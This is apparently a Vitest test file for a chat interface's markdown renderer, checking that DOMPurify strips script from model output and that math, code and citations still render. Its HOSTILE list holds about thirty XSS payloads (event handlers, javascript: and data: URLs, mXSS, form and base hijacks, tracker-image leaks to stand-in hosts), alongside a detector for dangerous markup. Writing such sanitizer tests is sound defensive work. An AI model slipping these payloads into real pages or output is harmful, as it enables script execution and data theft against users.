// Model output must never run script. DOMPurify runs here on jsdom's DOM (as in the browser).
import { describe, it, expect, beforeAll } from 'vitest';
import { JSDOM } from 'jsdom';
import createDOMPurify from 'dompurify';
import katex from 'katex';
import { renderMarkdown, renderCached, setPurifier } from './markdown.js';
import { setKatex, hasMath } from './math.js';
import { createSanitizer, isSafeUrl } from './sanitize.js';

let window;
let rawSanitize;

beforeAll(() => {
  window = new JSDOM('<!doctype html><body></body>').window;
  setPurifier(createDOMPurify(window));
  rawSanitize = createSanitizer(createDOMPurify(window));
  setKatex(katex);
});

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r="5"/></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '[x](javascript:alert(1))',
  '[x](  javascript:alert(1)  )',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![img](javascript:alert(1))',
  '<object data="x.swf"></object><embed src="x">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">cover</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>',
  '<img src="https://tracker.example/leak?q=secret">',
  '![leak](https://tracker.example/leak.png?q=secret)',
  '<button onclick="alert(1)" data-cite="1" data-testid="send">b</button>',
  '<span data-kx="guess" style="position:fixed">forged katex wrapper</span>',
  '$x$<span class="katex" style="position:fixed;top:0">fake</span>',
];

// Parses the HTML and reports anything executable or escaping the message box.
function dangers(html) {
  const doc = new JSDOM(`<!doctype html><body>${html}</body>`).window.document;
  const found = [];
  for (const el of doc.body.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'input', 'style', 'base', 'meta', 'link', 'frame', 'use', 'foreignobject'].includes(tag)) found.push(`<${tag}>`);
    for (const a of el.attributes) {
      const v = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (a.name.startsWith('on')) found.push(`${tag}[${a.name}]`);
      if (/^(href|src|xlink:href|action|formaction|srcdoc|data)$/.test(a.name) && /^(javascript|vbscript|data:text|data:image\/svg)/.test(v)) found.push(`${tag}[${a.name}=${v.slice(0, 20)}]`);
      if (a.name === 'src' && /^(https?:)?\/\//.test(v)) found.push(`remote ${tag}[src]`);
      if (a.name === 'style' && !el.closest('[data-kx]')) found.push(`${tag}[style] outside KaTeX`);
      if (a.name === 'data-testid' && a.value !== 'citation') found.push(`data-testid=${a.value}`);
    }
  }
  return found;
}

describe('markdown rendering is safe', () => {
  for (const payload of HOSTILE) {
    it(`neutralises ${payload.slice(0, 60)}`, () => {
      const out = renderMarkdown(`Here: ${payload}\n\n${payload}`, { citations: 2 });
      expect(dangers(out)).toEqual([]);
    });
  }

  it('the sanitizer alone (raw HTML, no markdown) also neutralises every payload', () => {
    for (const payload of HOSTILE) expect(dangers(rawSanitize(payload, 'n0nce')), payload).toEqual([]);
  });

  it('links keep safe targets and open in a new tab without opener', () => {
    const out = renderMarkdown('[docs](https://example.com/a) and [bad](javascript:alert(1))');
    const doc = new JSDOM(out).window.document;
    const [good, bad] = doc.querySelectorAll('a');
    expect(good.getAttribute('href')).toBe('https://example.com/a');
    expect(good.getAttribute('rel')).toBe('noopener noreferrer');
    expect(good.getAttribute('target')).toBe('_blank');
    expect(bad.hasAttribute('href')).toBe(false);
    expect(bad.textContent).toBe('bad');
  });

  it('raw HTML is shown as text, except a few harmless inline tags', () => {
    const out = renderMarkdown('a <b>bold</b> and <div class="x">block?</div> x<br>y');
    expect(out).toContain('<b>bold</b>');
    expect(out).toContain('<br>');
    expect(out).toContain('&lt;div class="x"&gt;');
  });

  it('remote images become links (no request leaves the page)', () => {
    const out = renderMarkdown('![chart](https://example.com/c.png)');
    expect(out).not.toContain('<img');
    expect(out).toContain('href="https://example.com/c.png"');
  });

  it('isSafeUrl', () => {
    expect(isSafeUrl('https://a.b/c')).toBe(true);
    expect(isSafeUrl('mailto:a@b.c')).toBe(true);
    expect(isSafeUrl('/v1/x')).toBe(true);
    expect(isSafeUrl('#x')).toBe(true);
    expect(isSafeUrl('javascript:alert(1)')).toBe(false);
    expect(isSafeUrl(' javascript:alert(1)')).toBe(false);
    expect(isSafeUrl('jav\u0000ascript:alert(1)')).toBe(false);
    expect(isSafeUrl('data:text/html,x')).toBe(false);
    expect(isSafeUrl('vbscript:x')).toBe(false);
  });
});

describe('math and code still render', () => {
  it('KaTeX output survives the sanitizer (inline and display, all four delimiters)', () => {
    const out = renderMarkdown('Euler: $e^{i\\pi}+1=0$, \\(a^2\\) and\n\n$$\\int_0^1 x\\,dx$$\n\n\\[\\sqrt{2}\\]');
    const doc = new JSDOM(out).window.document;
    expect(doc.querySelectorAll('.katex').length).toBe(4);
    expect(doc.querySelectorAll('.katex-display').length).toBe(2);
    expect(doc.querySelector('math')).not.toBeNull();
    expect(doc.querySelector('.katex-html [style]')).not.toBeNull(); // KaTeX keeps its inline styles
    expect(doc.querySelector('svg path')).not.toBeNull(); // \sqrt's SVG
    expect(dangers(out)).toEqual([]);
  });

  it('KaTeX never trusts \\href or \\htmlClass and does not throw on bad TeX', () => {
    const out = renderMarkdown('$\\href{javascript:alert(1)}{x}$ and $\\frac{1$ and $\\htmlStyle{position:fixed}{x}$');
    const doc = new JSDOM(out).window.document;
    expect(doc.querySelector('a, [href]')).toBeNull(); // \href is not trusted: no link at all
    for (const el of doc.querySelectorAll('[style]')) expect(el.getAttribute('style')).not.toMatch(/position/);
    expect(doc.querySelector('.katex-error')).not.toBeNull(); // bad TeX shown, not thrown
    expect(dangers(out)).toEqual([]);
  });

  it('dollar amounts are not math', () => {
    expect(renderMarkdown('It costs $5 and $10 today.')).not.toContain('katex');
    expect(hasMath('It costs $5 and $10 today.')).toBe(false);
    expect(hasMath('where $x$ is')).toBe(true);
    expect(hasMath('\\(a\\)')).toBe(true);
  });

  it('math inside code is left alone', () => {
    const out = renderMarkdown('`$x$` and\n\n```\n$$y$$\n```');
    expect(out).not.toContain('katex');
  });

  it('fenced code is highlighted with a copy button', () => {
    const out = renderMarkdown('```python\ndef f(x):\n    return "hi"  # c\n```', { copyLabel: '复制' });
    const doc = new JSDOM(out).window.document;
    expect(doc.querySelector('code.hljs.language-python')).not.toBeNull();
    expect(doc.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(doc.querySelector('.hljs-string')).not.toBeNull();
    expect(doc.querySelector('button[data-copy]')?.textContent).toBe('复制');
    expect(doc.querySelector('button[data-copy]')?.getAttribute('type')).toBe('button');
  });

  it('code in a hostile language tag stays inert', () => {
    const out = renderMarkdown('```js" onmouseover="alert(1)\nx\n```');
    expect(dangers(out)).toEqual([]);
  });

  it('rendered HTML is cached per message', () => {
    const a = renderCached('m1', '**hi** $x$');
    const b = renderCached('m1', '**hi** $x$');
    expect(b).toBe(a);
    expect(renderCached('m1', '**hi** $y$')).not.toBe(a);
  });
});

describe('citations', () => {
  it('[n] within range becomes a reference button; others stay text', () => {
    const out = renderMarkdown('Open the valve [1]. See [2, 3] and [9]. Not `[1]`.', { citations: 3, citeLabel: (n) => `Source ${n}` });
    const doc = new JSDOM(out).window.document;
    const btns = [...doc.querySelectorAll('button[data-testid="citation"]')];
    expect(btns.map((b) => b.dataset.cite)).toEqual(['1', '2', '3']);
    expect(btns[0].textContent).toBe('[1]');
    expect(btns[0].getAttribute('aria-label')).toBe('Source 1');
    expect(out).toContain('[9]');
    expect(doc.querySelector('code').textContent).toBe('[1]');
  });

  it('no citations -> no buttons, and [1](url) stays a link', () => {
    expect(renderMarkdown('see [1]')).not.toContain('<button');
    const out = renderMarkdown('see [1](https://example.com)', { citations: 2 });
    expect(out).toContain('<a href="https://example.com"');
    expect(out).not.toContain('data-cite');
  });

  it('Chinese text with full-width punctuation', () => {
    const out = renderMarkdown('压力超过三巴时打开泄压阀[1]。参见[1，2]。', { citations: 2 });
    expect((out.match(/data-testid="citation"/g) || []).length).toBe(3);
  });
});
